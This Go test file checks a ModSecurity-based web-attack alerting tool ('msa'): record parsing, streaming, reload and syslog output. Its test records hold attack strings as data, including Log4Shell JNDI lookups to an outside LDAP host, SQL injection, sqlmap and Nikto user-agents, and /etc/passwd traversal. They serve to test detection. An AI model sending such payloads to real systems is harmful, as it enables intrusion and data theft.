package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"crypto/tls"
	"encoding/pem"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/modsecurity-for-anylog/msa/test/rig"
)

// running starts msa run, which prints alerts unless args say otherwise, and waits
// until it listens.
func running(t testing.TB, args ...string) *program {
	t.Helper()
	p := command(t, "msa", append([]string{"run"}, args...)...)
	p.start()
	p.logged("msg=listening")
	return p
}

// address is where it listens.
func (p *program) address(network string) string {
	p.t.Helper()
	return p.logged(network + `://(\S*?:\d+)[", ]`)[1]
}

func (p *program) dial(network string) net.Conn {
	p.t.Helper()
	conn, err := net.Dial(network, p.address(network))
	if err != nil {
		p.t.Fatal(err)
	}
	p.t.Cleanup(func() { _ = conn.Close() })
	return conn
}

func (p *program) send(conn net.Conn, data string) {
	p.t.Helper()
	if _, err := io.WriteString(conn, data); err != nil {
		p.t.Fatal(err)
	}
}

// end sends SIGTERM and gives all alerts that were printed.
func (p *program) end() []map[string]any {
	p.t.Helper()
	p.signal(syscall.SIGTERM)
	if code := p.wait(); code != 0 {
		p.t.Errorf("exit code %d", code)
	}
	return alerts(p.t, p.stdout.String())
}

// messages are the alerts' messages, by which the tests know the records.
func messages(alerts []map[string]any) []string {
	var all []string
	for _, a := range alerts {
		all = append(all, fmt.Sprint(a["message"]))
	}
	return all
}

func gzipped(s string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = io.WriteString(w, s)
	_ = w.Close()
	return b.String()
}

func zlibbed(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = io.WriteString(w, s)
	_ = w.Close()
	return b.String()
}

// TestWhatStoppedTheOriginal sends records on which the original MSA crashes or
// stays silent.
func TestWhatStoppedTheOriginal(t *testing.T) {
	long := strings.Repeat("x", 4000)
	header := func(lines string) string {
		return "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n" + lines + "\r\n"
	}
	post := func(kind, body string) map[string]any {
		return map[string]any{"METHOD": "POST", "REQ_BODY": body, "REQ_HEADER": fmt.Sprintf(
			"POST /login HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n", kind, len(body)), "URL": "/login"}
	}
	p := running(t, "--listen=udp://127.0.0.1:0")
	conn := p.dial("udp")
	var want []string
	for _, c := range []struct {
		name   string
		change map[string]any
		base   func(testing.TB, map[string]any) string
		encode func(string) string
	}{
		{name: "as it is"},
		{name: "numbers", change: map[string]any{"SRC_PORT": 46152, "DST_PORT": 80, "RETCODE": 403}},
		{name: "null", change: map[string]any{"SRC_PORT": nil, "RETCODE": nil, "RSP_BODY": nil, "FORWARD": nil}},
		{name: "objects", change: map[string]any{"SRC_PORT": map[string]any{"a": 1}, "RETCODE": []int{1}, "FORWARD": map[string]any{}}},
		{name: "long addresses", change: map[string]any{"SRC_IP": strings.Repeat("1", 1100)}},
		{name: "long time", change: map[string]any{"BEGIN_TIME": strings.Repeat("2", 1100)}},
		{name: "IPv6", change: map[string]any{"SRC_IP": "2001:db8::1", "DST_IP": "fd00::1"}},
		{name: "RFC 3339", change: map[string]any{"BEGIN_TIME": "2024-05-30T07:16:48.917+08:00"}},
		{name: "no FORWARD", change: map[string]any{"FORWARD": nil}},
		{name: "pretty-printed", encode: indent},
		{name: "byte order mark", encode: func(s string) string { return "\xef\xbb\xbf" + s }},
		{name: "leading newline", encode: func(s string) string { return "\n" + s }},
		{name: "zlib", encode: zlibbed},
		{name: "gzip", encode: gzipped},
		{name: "gzip over 64 KiB", change: map[string]any{"padding": strings.Repeat(long, 50)}, encode: gzipped},
		{name: "array", encode: func(s string) string { return "[" + s + "]" }},
		{name: "long header", base: benign, change: map[string]any{"REQ_HEADER": header("X-Long: " + long + "\r\nX-Evil: ${jndi:ldap://192.0.2.1/a}\r\n")}},
		{name: "many headers", base: benign, change: map[string]any{"REQ_HEADER": header(strings.Repeat("X-A: b\r\n", 600) + "X-Evil: ${jndi:ldap://192.0.2.1/a}\r\n")}},
		{name: "long body", base: benign, change: post("application/x-www-form-urlencoded", "a="+long+"&b=1'+union+select+password+from+users--+")},
		{name: "long user agent", base: benign, change: map[string]any{"REQ_HEADER": strings.Replace(header(""), "Mozilla/5.0", "Mozilla/5.0 "+strings.Repeat("y", 100)+" sqlmap/1.7", 1)}},
		{name: "POST body", base: benign, change: post("application/x-www-form-urlencoded", "user=1'+or+'1'='1'+--+")},
		{name: "JSON body", base: benign, change: post("application/json", `{"user":"' or '1'='1' -- "}`)},
		{name: "scanner", base: benign, change: map[string]any{"REQ_HEADER": strings.Replace(header(""), "Mozilla/5.0", "Nikto/2.1.6", 1)}},
		{name: "log4shell", base: benign, change: map[string]any{"REQ_HEADER": header("X-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n")}},
		{name: "SQL error", base: benign, change: map[string]any{"RSP_BODY": "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"}},
	} {
		base := attack
		if c.base != nil {
			base = c.base
		}
		change := map[string]any{"message": c.name}
		for key, value := range c.change {
			change[key] = value
		}
		text := base(t, change)
		if c.encode != nil {
			text = c.encode(text)
		}
		p.send(conn, text)
		want = append(want, c.name)
	}
	p.send(conn, benign(t, map[string]any{"message": "benign"}))
	p.send(conn, attack(t, map[string]any{"message": nil})) // its alert has an empty message
	want = append(want, "")
	if got := messages(p.end()); !slices.Equal(got, want) {
		t.Errorf("alerts of %q\nwant %q", got, want)
	}
	if lost := regexp.MustCompile("input lost|not inspected=[1-9]|level=ERROR").FindString(p.stderr.String()); lost != "" {
		t.Errorf("log has %q", lost)
	}
}

func TestStreamsToOneProcess(t *testing.T) {
	p := running(t, "--listen=tcp://127.0.0.1:0", "--listen", "udp://127.0.0.1:0", "--listen=tcp://[::1]:0")
	const clients, each = 20, 10
	var all sync.WaitGroup
	var want []string
	for c := range clients {
		conn := p.dial("tcp")
		var stream strings.Builder
		for i := range each {
			id := fmt.Sprintf("%d/%d", c, i)
			stream.WriteString(attack(t, map[string]any{"message": id}) + []string{"\n", "\x00", ""}[c%3])
			want = append(want, id)
		}
		all.Go(func() {
			for piece := range slices.Chunk([]byte(stream.String()), 700) {
				p.send(conn, string(piece))
			}
		})
	}
	p.send(p.dial("udp"), attack(t, map[string]any{"message": "udp"}))
	want = append(want, "udp")
	all.Wait()
	got := messages(p.end())
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("%d alerts, want %d", len(got), len(want))
	}
}

func TestLoneRecordIsNotDelayed(t *testing.T) {
	p := running(t, "--listen=tcp://127.0.0.1:0")
	conn := p.dial("tcp")
	for i := range 3 {
		p.send(conn, attack(t, map[string]any{"message": fmt.Sprint("lone", i)})) // no newline
		p.find(&p.stdout, fmt.Sprint("lone", i))
	}
}

// A datagram of many attacks, and a stream of them, keep nobody else's record waiting for the end of them.
func TestOneSenderDoesNotKeepOthersWaiting(t *testing.T) {
	const many = 4_000
	p := running(t, "--listen=tcp://127.0.0.1:0", "--listen=udp://127.0.0.1:0")
	stream := p.dial("tcp")
	var sending sync.WaitGroup
	sending.Go(func() {
		_, _ = io.WriteString(stream, strings.Repeat(attack(t, map[string]any{"message": "many"}), many)) // fails when the program is ended
	})
	p.find(&p.stdout, `"message":"many"`)
	p.send(p.dial("udp"), gzipped(strings.Repeat(attack(t, map[string]any{"message": "packed"})+"\n", 1000)))
	p.find(&p.stdout, `"message":"packed"`)
	p.send(p.dial("udp"), attack(t, map[string]any{"message": "next"}))
	p.find(&p.stdout, `"message":"next"`)
	before, _, _ := strings.Cut(p.stdout.String(), `"message":"next"`)
	if n := strings.Count(before, "\n"); n > many/2 {
		t.Errorf("it came after %d alerts of others", n)
	}
	p.logged(`cause="too many records in a datagram" count=[0-9]+ .*limit=256`)
	p.signal(syscall.SIGTERM)
	p.signal(syscall.SIGTERM)
	p.wait()
	sending.Wait()
}

func TestTERMDeliversEverything(t *testing.T) {
	const n = 1000
	for _, network := range []string{"udp", "tcp"} {
		t.Run(network, func(t *testing.T) {
			receiver, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			var received atomic.Int64
			receiving := make(chan struct{})
			go func() {
				defer close(receiving)
				for {
					conn, err := receiver.Accept()
					if err != nil {
						return
					}
					all, _ := io.ReadAll(conn)
					received.Add(int64(bytes.Count(all, []byte(" msa "))))
					_ = conn.Close()
				}
			}()
			p := running(t, "--listen="+network+"://127.0.0.1:0", "--output=syslog+tcp://"+receiver.Addr().String())
			conn := p.dial(network)
			record := attack(t, nil)
			for range n {
				p.send(conn, record)
			}
			if stream, ok := conn.(*net.TCPConn); ok { // what is in our system's buffer has not arrived
				if err := stream.CloseWrite(); err != nil {
					t.Fatal(err)
				}
				p.until(func() error { return rig.TakenIn(stream) })
			}
			p.end()
			_ = receiver.Close()
			<-receiving
			if got := received.Load(); got != n {
				t.Errorf("%d alerts came, want %d", got, n)
			}
			p.logged(fmt.Sprintf("msg=ended records=%d alerts=%d not_inspected=0", n, n))
		})
	}
}

func TestTERMWhenIdle(t *testing.T) {
	for _, s := range []syscall.Signal{syscall.SIGTERM, syscall.SIGINT} {
		p := running(t, "--listen=udp://127.0.0.1:0", "--listen=tcp://127.0.0.1:0", "--output=syslog+tcp://127.0.0.1:9")
		p.dial("tcp")
		p.signal(s)
		if code := p.wait(); code != 0 {
			t.Errorf("%v: exit code %d", s, code)
		}
		p.logged("msg=ended records=0 alerts=0 not_inspected=0")
	}
}

func TestSecondTERMEndsAtOnce(t *testing.T) {
	p := running(t, "--listen=udp://127.0.0.1:0", "--output=syslog+tcp://127.0.0.1:9") // nobody is there
	p.send(p.dial("udp"), attack(t, nil))
	p.logged("alerts wait")
	p.signal(syscall.SIGTERM)
	p.logged("msg=\"shutting down; what was received")
	p.signal(syscall.SIGTERM)
	if code := p.wait(); code != 1 {
		t.Errorf("exit code %d", code)
	}
	if strings.Contains(p.stderr.String(), "msg=ended") {
		t.Error("did not end at once, but waited for the receiver")
	}
}

func TestReload(t *testing.T) {
	rules := file(t, "rules.conf", "")
	write := func(text string) {
		t.Helper()
		if err := os.WriteFile(rules, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	rule := func(id int) string {
		return fmt.Sprintf("SecRuleEngine On\nSecRule ARGS:t \"@contains passwd\" \"id:%d,phase:2,deny,msg:'test'\"\n", id)
	}
	write(rule(1))
	p := running(t, "--listen=tcp://127.0.0.1:0", "--rules="+rules)
	conn := p.dial("tcp")
	fired := func(id int, message string) {
		t.Helper()
		p.send(conn, attack(t, map[string]any{"message": message}))
		p.find(&p.stdout, fmt.Sprintf(`"rule_id":"%d".*"message":"%s"`, id, message))
	}
	fired(1, "first")
	write(rule(2))
	p.signal(syscall.SIGHUP)
	p.logged("msg=reloaded")
	fired(2, "second")
	write("SecRule ARGS \"@contains x\n")
	p.signal(syscall.SIGHUP)
	p.logged(`msg="cannot reload; the old rules stay" error=.*rules.conf`)
	fired(2, "third")

	// Under load no record goes without.
	write(rule(3))
	const n = 2000
	record := attack(t, map[string]any{"message": "load"})
	for i := range n {
		if i%500 == 250 {
			p.signal(syscall.SIGHUP)
		}
		p.send(conn, record)
	}
	p.until(func() error {
		if got := strings.Count(p.stdout.String(), "\n"); got < n+3 {
			return fmt.Errorf("%d alerts came, want %d", got, n+3)
		}
		return nil
	})
	if got := messages(p.end()); len(got) != n+3 {
		t.Errorf("%d alerts, want %d", len(got), n+3)
	}
	p.logged(fmt.Sprintf("msg=ended records=%d alerts=%d", n+3, n+3))
}

// A reload that is under way when it ends is waited for: what it loads is closed with the rest.
func TestReloadAtTheEnd(t *testing.T) {
	const rule = "SecRuleEngine On\nSecRule ARGS:t \"@contains passwd\" \"id:1,phase:2,deny,msg:'test'\"\n"
	rules := file(t, "rules.conf", rule)
	p := running(t, "--listen=tcp://127.0.0.1:0", "--rules="+rules)
	if err := os.Remove(rules); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(rules, 0o600); err != nil {
		t.Fatal(err)
	}
	p.signal(syscall.SIGHUP)
	var pipe *os.File
	p.until(func() (err error) {
		pipe, err = os.OpenFile(rules, os.O_WRONLY|syscall.O_NONBLOCK, 0) // fails as long as nobody reads
		return err
	})
	p.signal(syscall.SIGTERM)
	p.logged("shutting down")
	if _, err := pipe.WriteString(rule); err != nil {
		t.Fatal(err)
	}
	if err := pipe.Close(); err != nil {
		t.Fatal(err)
	}
	if code := p.wait(); code != 0 {
		t.Errorf("exit code %d", code)
	}
	p.logged("(?s)msg=(?:reloaded|\"cannot reload).*msg=ended")
}

// A state file that something else has taken the place of is refused at a reload, and what was loaded before stays.
func TestReloadWithoutAStateFile(t *testing.T) {
	state := filepath.Join(t.TempDir(), "state")
	p := running(t, "--listen=udp://127.0.0.1:0", "--behavior=default", "--state-path="+state)
	conn := p.dial("udp")
	if err := os.Mkdir(state, 0o700); err != nil {
		t.Fatal(err)
	}
	p.signal(syscall.SIGHUP)
	p.logged(`msg="cannot reload; the old rules stay" error="property state_path: cannot keep state .* is a directory`)
	p.send(conn, attack(t, map[string]any{"message": "after"}))
	p.find(&p.stdout, `"message":"after"`)
	p.signal(syscall.SIGTERM)
	p.wait()
	if entries, err := os.ReadDir(filepath.Dir(state)); err != nil || len(entries) != 1 || !entries[0].IsDir() {
		t.Errorf("the directory holds %v, %v", entries, err)
	}
}

// receiveUDP is a receiver of datagrams.
func receiveUDP(t testing.TB) (address string, next func() string) {
	t.Helper()
	conn, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = conn.Close() })
	return conn.LocalAddr().String(), func() string {
		t.Helper()
		b := make([]byte, 64<<10)
		_ = conn.SetReadDeadline(time.Now().Add(rig.Patience))
		n, _, err := conn.ReadFrom(b)
		if err != nil {
			t.Fatal(err)
		}
		return string(b[:n])
	}
}

func freePort(t testing.TB, network string) string {
	t.Helper()
	var address string
	if network == "udp" {
		l, err := net.ListenPacket("udp", ":0")
		if err != nil {
			t.Fatal(err)
		}
		address = l.LocalAddr().String()
		_ = l.Close()
	} else {
		l, err := net.Listen("tcp", ":0")
		if err != nil {
			t.Fatal(err)
		}
		address = l.Addr().String()
		_ = l.Close()
	}
	_, port, err := net.SplitHostPort(address)
	if err != nil {
		t.Fatal(err)
	}
	return port
}

func TestAsTheOriginal(t *testing.T) {
	rules := file(t, "modsecurity.conf", "SecRuleEngine On\nSecRule ARGS:t \"@contains passwd\" \"id:7,phase:2,deny,severity:3,msg:'test'\"\n")
	keys := file(t, "keys.txt", "url : uri\nMETHOD:verb\nsrc_ip : client\n")
	renamed := attack(t, map[string]any{"URL": nil, "METHOD": nil, "SRC_IP": nil, "REQ_HEADER": nil, "verb": "GET", "uri": "/?t=/etc/passwd", "client": "192.0.2.7"})
	for _, c := range []struct {
		name    string
		program string
		network string
		record  string
		args    func(port, receiver string) []string
		want    []string // parts of the alert
		not     []string
	}{
		{"environment", "uniwaf", "udp", attack(t, nil), func(port, receiver string) []string {
			return []string{"LISTEN_PORT=" + port, "OUTPUT=" + receiver, "RULEPATH=" + rules}
		}, []string{`"rule_id":"7"`, `"version":"1.1"`, `"short_message":"test"`}, []string{"223sdfalkjsflkajf"}},
		{"flags", "/usr/bin/uniwaf", "udp", attack(t, nil), func(port, receiver string) []string {
			return []string{"LISTEN_PORT=1", "OUTPUT=192.0.2.1:9", "RULEPATH=/nowhere", "-r", "-l", port, "-s", receiver, "-c", rules, "-a", "-u", "gelf"}
		}, []string{`"rule_id":"7"`, `"version":"1.1"`, "223sdfalkjsflkajf"}, nil},
		{"TCP and syslog", "uniwaf", "tcp", attack(t, nil), func(port, receiver string) []string {
			return []string{"-tr", "-l" + port, "-s" + receiver, "-c" + rules, "-u", "syslog", "-p", "probe7"}
		}, []string{"<163>1 ", "Z probe7 msa ", `[msa@32473 rule_id="7" src_ip="192.168.1.105"`, `{"rule_id":"7"`}, []string{"223sdfalkjsflkajf"}},
		{"key file", "uniwaf", "udp", renamed, func(port, receiver string) []string {
			return []string{"-l", port, "-s", receiver, "-c", rules, "-k", keys, "-a"}
		}, []string{`"url":"/?t=/etc/passwd"`, `"src_ip":"192.0.2.7"`, `"method":"GET"`}, nil},
		{"msa keeps bodies", "msa", "udp", attack(t, nil), func(port, receiver string) []string {
			return []string{"run", "-l", port, "-s", receiver, "--rules", rules}
		}, []string{"223sdfalkjsflkajf"}, nil},
		{"property before flag", "uniwaf", "udp", attack(t, nil), func(port, receiver string) []string {
			return []string{"-l", port, "-s", receiver, "--rules", rules, "--include-bodies=on"}
		}, []string{"223sdfalkjsflkajf"}, nil},
	} {
		t.Run(c.name, func(t *testing.T) {
			receiver, next := receiveUDP(t)
			p := command(t, c.program, c.args(freePort(t, c.network), receiver)...)
			p.start()
			p.logged("msg=listening .*" + regexp.QuoteMeta(receiver))
			p.send(p.dial(c.network), c.record)
			got := next()
			for _, part := range c.want {
				if !strings.Contains(got, part) {
					t.Errorf("%s is missing in %s", part, got)
				}
			}
			for _, part := range c.not {
				if strings.Contains(got, part) {
					t.Errorf("%s is in %s", part, got)
				}
			}
			p.end()
			if left, _ := os.ReadDir(p.temp); len(left) > 0 {
				t.Errorf("left behind: %v", left)
			}
		})
	}
}

func TestKeyFileIsReadAgain(t *testing.T) {
	keys := file(t, "keys.txt", "url : uri\n")
	p := running(t, "--listen=udp://127.0.0.1:0", "-k", keys)
	conn := p.dial("udp")
	record := func(key, message string) string {
		return attack(t, map[string]any{"URL": nil, "REQ_HEADER": nil, key: "/?t=../../etc/passwd", "message": message})
	}
	p.send(conn, record("uri", "first"))
	p.find(&p.stdout, `"message":"first"`)
	if err := os.WriteFile(keys, []byte("url : path\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	p.signal(syscall.SIGHUP)
	p.logged("msg=reloaded")
	p.send(conn, record("path", "second"))
	p.find(&p.stdout, `"message":"second"`)
	if err := os.WriteFile(keys, []byte("nonsense : x\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	p.signal(syscall.SIGHUP)
	p.logged(`cannot reload; .*keys.txt:1: unknown name`)
	p.send(conn, record("path", "third"))
	p.find(&p.stdout, `"message":"third"`)
}

func TestRunErrors(t *testing.T) {
	taken, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = taken.Close() }()
	keys := file(t, "keys.txt", "colour : blue\n")
	for _, c := range []struct {
		name string
		args []string
		want string
	}{
		{"listen", []string{"--listen=15155"}, `msa: cannot listen on "15155": expected udp://host:port`},
		{"taken", []string{"--listen=tcp://" + taken.Addr().String()}, "address already in use"},
		{"port", []string{"-l", "0"}, `msa: cannot read --listen-port "0": not a port`},
		{"port of the environment", []string{"LISTEN_PORT=x"}, `msa: cannot read LISTEN_PORT "x": not a port`},
		{"records of a datagram", []string{"--datagram-records=0"}, "msa: cannot read --datagram-records 0: it is not above 0"},
		{"bytes of a datagram", []string{"--datagram-bytes=1"}, `msa: cannot read --datagram-bytes: "1" is not a size from 1024 to 67108864 bytes, such as 128K`},
		{"state", []string{"--listen=udp://127.0.0.1:0", "--behavior=default", "--state-path=" + t.TempDir()}, `property state_path: cannot keep state in "`},
		{"output", []string{"--listen=udp://127.0.0.1:0", "--output=carrier-pigeon://x:1"}, `msa: cannot send alerts to "carrier-pigeon://x:1": scheme`},
		{"two outputs", []string{"--output=stdout", "-s", "x:1"}, "msa: --output and --send both say"},
		{"format", []string{"-u", "xml"}, `msa: cannot read --format "xml"`},
		{"rules", []string{"--rules=/nowhere.conf"}, "/nowhere.conf"},
		{"key file", []string{"-k", keys}, "msa: cannot read key file " + keys + `:1: unknown name "colour"`},
		{"no key file", []string{"-k", "/nowhere.txt"}, "msa: cannot read key file: open /nowhere.txt"},
		{"key file and mapping", []string{"-k", file(t, "good.txt", "url:u"), "--mapping=nano"}, "msa: --mapping and --key-file both say"},
		{"TLS", []string{"--listen=udp://127.0.0.1:0", "--output=syslog+tls://x:1", "--tls-ca=/nowhere.pem"}, "cannot read CA file"},
	} {
		t.Run(c.name, func(t *testing.T) {
			var env []string
			for len(c.args) > 0 && strings.HasPrefix(c.args[0], "LISTEN_PORT=") {
				env, c.args = append(env, c.args[0]), c.args[1:]
			}
			p := command(t, "msa", append(append(env, "run"), c.args...)...)
			if code := p.run(""); code != 1 || !strings.Contains(p.stderr.String(), c.want) {
				t.Errorf("exit code %d, stderr %s", code, p.stderr.String())
			}
		})
	}
}

func TestSyslogOverTLS(t *testing.T) {
	server := httptest.NewUnstartedServer(http.NotFoundHandler())
	server.StartTLS() // for its certificate, for 127.0.0.1
	defer server.Close()
	ca := file(t, "ca.pem", string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw})))
	l, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: server.TLS.Certificates, MinVersion: tls.VersionTLS12})
	if err != nil {
		t.Fatal(err)
	}
	received := make(chan string, 1)
	go func() {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		line, _ := bufio.NewReader(conn).ReadString('}')
		received <- line
	}()
	p := running(t, "--listen=udp://127.0.0.1:0", "--output=syslog+tls://"+l.Addr().String(), "--tls-ca", ca, "--tls-server-name=example.com")
	p.send(p.dial("udp"), attack(t, nil)) // which the server refuses: a notice
	select {
	case got := <-received:
		if !regexp.MustCompile(`^\d+ <165>1 \S+Z \S+ msa \d+ 930100 \[msa@32473 `).MatchString(got) {
			t.Errorf("received %s", got)
		}
	case <-time.After(rig.Patience):
		t.Error("nothing came")
	}
}

// TestRsyslog sends to the receiver that most have.
func TestRsyslog(t *testing.T) {
	rsyslogd := "/usr/sbin/rsyslogd"
	if _, err := os.Stat(rsyslogd); err != nil {
		t.Skip("no rsyslogd here")
	}
	for _, network := range []string{"udp", "tcp"} {
		t.Run(network, func(t *testing.T) {
			dir := t.TempDir()
			port := freePort(t, network)
			out := filepath.Join(dir, "alerts")
			config := file(t, "rsyslog.conf", fmt.Sprintf(`
global(workDirectory=%q maxMessageSize="64k")
module(load="imudp")
module(load="imtcp")
input(type="imudp" address="127.0.0.1" port=%[2]q rcvbufSize="8m")
input(type="imtcp" address="127.0.0.1" port=%[2]q)
template(name="line" type="string" string="%%pri%%|%%timereported:::date-rfc3339%%|%%hostname%%|%%app-name%%|%%msgid%%|%%structured-data%%|%%msg%%\n")
action(type="omfile" file=%[3]q template="line")
`, dir, port, out))
			receiver := command(t, rsyslogd, "-n", "-f", config, "-i", filepath.Join(dir, "pid"))
			receiver.cmd.Path = rsyslogd
			receiver.start()
			receiver.until(func() error { // it opens the port of TCP last
				conn, err := net.Dial("tcp", "127.0.0.1:"+port)
				if err == nil {
					_ = conn.Close()
				}
				return err
			})
			p := running(t, "--listen=tcp://127.0.0.1:0", "--output=syslog+"+network+"://127.0.0.1:"+port, "--hostname=probe")
			conn := p.dial("tcp")
			const n = 200
			for i := range n {
				p.send(conn, attack(t, map[string]any{"message": fmt.Sprint(i), "DOMAIN": `a"]\b`, "REQ_HEADER": nil}))
			}
			p.end()
			var lines []string
			receiver.until(func() error {
				b, _ := os.ReadFile(out)
				if lines = strings.Split(strings.TrimSuffix(string(b), "\n"), "\n"); len(lines) != n {
					return fmt.Errorf("%d lines came, want %d", len(lines), n)
				}
				return nil
			})
			for i, line := range lines {
				f := strings.SplitN(line, "|", 7)
				if len(f) != 7 || f[0] != "165" || !regexp.MustCompile(`\.\d{3}(Z|\+00:00)$`).MatchString(f[1]) || f[2] != "probe" || f[3] != "msa" || f[4] != "930100" ||
					!strings.Contains(f[5], `domain="a\"\]\\b"`) {
					t.Fatalf("line %d: %s", i, line)
				}
				if a := alerts(t, f[6]); a[0]["message"] != fmt.Sprint(i) || a[0]["domain"] != `a"]\b` {
					t.Fatalf("line %d: %s", i, line)
				}
			}
		})
	}
}
